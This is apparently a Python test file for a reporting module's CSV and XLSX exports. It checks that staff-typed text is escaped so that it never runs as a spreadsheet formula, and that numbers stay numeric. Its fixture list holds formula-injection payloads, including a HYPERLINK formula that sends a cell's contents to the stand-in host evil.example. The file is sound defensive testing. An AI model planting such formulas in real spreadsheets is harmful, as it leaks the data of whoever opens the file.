"""Report exports: text a staff member typed (a campaign title, a branch or doctor name) never runs as a
spreadsheet formula when finance opens the file; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from reports import exports
from reports.schemas import Column, Report

FORMULA_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def _report() -> Report:
    return Report(
        report="campaigns", title="Campaigns", timezone="Asia/Shanghai", date_from=date(2026, 11, 1),
        date_to=date(2026, 11, 30), branch_id=None,
        columns=[Column("title", "Campaign", "text"), Column("net_fen", "Net", "fen")],
        rows=[[title, -1500] for title in FORMULA_TITLES] + [["闺蜜卡 双人", 0]],
    )


def test_csv_escapes_formula_text_and_keeps_numbers():
    text = exports.to_csv(_report())
    text = text.decode("utf-8") if isinstance(text, bytes) else text
    assert text.startswith("\ufeff")
    body = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[3:3 + len(FORMULA_TITLES) + 1]
    assert [row[0] for row in body] == ["'" + t for t in FORMULA_TITLES] + ["闺蜜卡 双人"]
    assert [row[1] for row in body] == ["-1500"] * len(FORMULA_TITLES) + ["0"]


def test_xlsx_escapes_formula_text_and_keeps_numbers():
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(_report()))).active
    rows = [list(r) for r in sheet.iter_rows(min_row=4, values_only=True)]
    assert rows == [["'" + t, -1500] for t in FORMULA_TITLES] + [["闺蜜卡 双人", 0]]
